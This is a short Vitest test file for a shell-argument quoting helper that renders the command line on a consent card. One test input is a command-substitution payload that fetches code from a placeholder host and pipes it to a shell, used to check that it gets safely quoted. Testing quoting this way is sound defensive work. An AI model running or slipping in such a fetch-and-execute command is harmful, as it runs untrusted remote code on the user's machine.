import { describe, expect, it } from 'vitest';
import { commandLine, quoteArg } from './consent-text';

describe('the consent card\'s command line', () => {
  it('quotes only what a shell would split or expand, so the line is exactly what runs', () => {
    expect(quoteArg('--port=8080')).toBe('--port=8080');
    expect(quoteArg('/usr/bin/node')).toBe('/usr/bin/node');
    expect(quoteArg('two words')).toBe("'two words'");
    expect(quoteArg('')).toBe("''");
    expect(quoteArg("it's")).toBe("'it'\\''s'");
    expect(quoteArg('$(curl evil | sh)')).toBe("'$(curl evil | sh)'");
    expect(commandLine({ command: 'npx', args: ['-y', 'some server', ''] })).toBe("npx -y 'some server' ''");
  });
});
